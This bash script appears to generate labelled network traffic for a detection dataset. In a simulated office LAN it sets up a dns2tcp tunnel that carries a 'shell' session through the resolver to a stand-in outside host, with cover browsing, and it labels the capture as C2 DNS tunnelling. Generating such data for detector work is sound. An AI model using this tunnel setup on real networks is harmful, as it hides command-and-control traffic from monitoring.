#!/usr/bin/env bash
# dns2tcp: a TCP session in TXT queries through the office resolver, in real time for some eight minutes.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
UC_BEGIN=2026-03-14T09:05:00Z
uc_start 800 curl nginx-light dns2tcp socat
UC_SNAP=1600
uc_lan 192.168.7.1/24
uc_host dev3 192.168.7.33
uc_host dev4 192.168.7.34
uc_browse_sites
uc_outside 203.0.113.53
echo "server=/d.relaynames.example/203.0.113.53" >> "$UC_WORK/dns.conf"
uc_up

cat > "$UC_WORK/dns2tcpd.conf" <<CONF
listen = 203.0.113.53
port = 53
user = nobody
chroot = $UC_WORK
domain = d.relaynames.example
key = mask4passage
resources = shell:127.0.0.1:2022
CONF
# What the tunnel carries: a line-driven session that answers each command with some text.
mkfifo "$UC_WORK/keys"
uc_bg wan socat TCP-LISTEN:2022,bind=127.0.0.1,reuseaddr,fork SYSTEM:"while read -r count; do head -c \$count /dev/urandom | base64; done"
uc_bg wan dns2tcpd -F -f "$UC_WORK/dns2tcpd.conf"
sleep 1
uc_bg dev3 dns2tcpc -c -r shell -l 2022 -k mask4passage -z d.relaynames.example 192.168.7.1
uc_wait "the client" uc_in dev3 bash -c 'ss -ltn | grep -q :2022'
uc_bg dev4 bash -c "{ for n in \$(seq 14); do sleep \$((18 + n * 7 % 30)); echo get https://www.dailyharbour.example/page-\$n.html https://static.dailyharbour.example/part-\$n.bin; done; echo close; sleep 3; } | python3 $UC_TOOLS/browser.py"
uc_bg dev3 bash -c "exec 3<>$UC_WORK/keys; exec socat STDIO TCP:127.0.0.1:2022 <&3 >/dev/null"
sleep 25
for size in 40 700 220 90 1500 60 3000 120 400 50 6000 80 900 300 70 2500 150 60; do
  echo "$size" > "$UC_WORK/keys"; sleep $((14 + size % 23))
done
sleep 30

uc_finish "$(uc_versions dns2tcp socat curl nginx-light dnsmasq-base tcpdump)" --shift-to "$UC_BEGIN" <<'LABELS'
192.168.7.33 relaynames.example c2 dns_tunnel
LABELS
